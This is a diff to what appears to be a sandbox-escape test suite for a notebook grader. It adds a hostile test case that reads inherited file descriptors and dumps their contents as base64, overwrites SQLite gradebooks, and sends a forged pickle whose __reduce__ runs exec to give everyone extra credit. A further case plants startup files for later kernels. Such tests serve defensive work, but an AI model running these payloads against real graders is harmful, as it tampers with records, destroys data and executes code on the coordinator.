@@ -605,6 +605,45 @@ _add("fs_symlink_to_solutions", "filesystem", "release", hostile=True,
         print("no linked gradebook:", type(_exc).__name__)
 ''')))
 
+_add("fs_inherited_descriptors", "filesystem", "release", hostile=True, leaks=True,
+     note="descriptors the kernel might inherit from the grader (a worker forked from the coordinator holds "
+          "the gradebook and the pipes to the coordinator): read them, write extra credit through them, and "
+          "send the coordinator a forged result that runs code when it is unpickled",
+     append={"em_n": SANDBOX_GUARD + _c('''
+    import base64, os, pickle, socket, stat, struct
+    class _RtRun:   # unpickled by whoever reads the pipe: gives everyone extra credit in the gradebook
+        def __reduce__(self):
+            return (exec, ("import glob, sqlite3\\n"
+                           "for p in glob.glob('**/gradebook.db', recursive=True):\\n"
+                           "    c = sqlite3.connect(p); c.execute('UPDATE grade SET extra_credit = 100'); c.commit()",))
+    _rt_forged = pickle.dumps(_RtRun())
+    if _rt_confined():
+        for _fd in range(3, 4096):   # /proc/self/fd may not be listable: ask every number
+            try:
+                _st = os.fstat(_fd)
+            except OSError:
+                continue
+            if stat.S_ISREG(_st.st_mode):
+                try:
+                    _data = os.pread(_fd, 20000, 0)
+                    print("=== base64", _fd, base64.b64encode(_data).decode())
+                    if _data.startswith(b"SQLite format 3"):
+                        os.pwrite(_fd, b"not a database any more", 0)
+                        print("overwrote the database behind", _fd)
+                except OSError as _exc:
+                    print("cannot use", _fd, type(_exc).__name__)
+            elif stat.S_ISSOCK(_st.st_mode):
+                try:
+                    _s = socket.socket(fileno=os.dup(_fd))
+                    if not _s.getsockname():   # unnamed: not one of the kernel's own endpoints
+                        _s.setblocking(False)
+                        _s.send(struct.pack("!i", len(_rt_forged)) + _rt_forged)   # multiprocessing's framing
+                        print("sent a forged result down", _fd)
+                    _s.detach()
+                except OSError as _exc:
+                    print("cannot send on", _fd, type(_exc).__name__)
+''')})
+
 _add("aa_fs_plant_for_later_kernels", "filesystem", "release", hostile=True,
      note="files left in /tmp, HOME and /dev/shm for the kernels graded after this one (IPython startup files)",
      append={"log_likelihood_matrix": SANDBOX_GUARD + _c('''
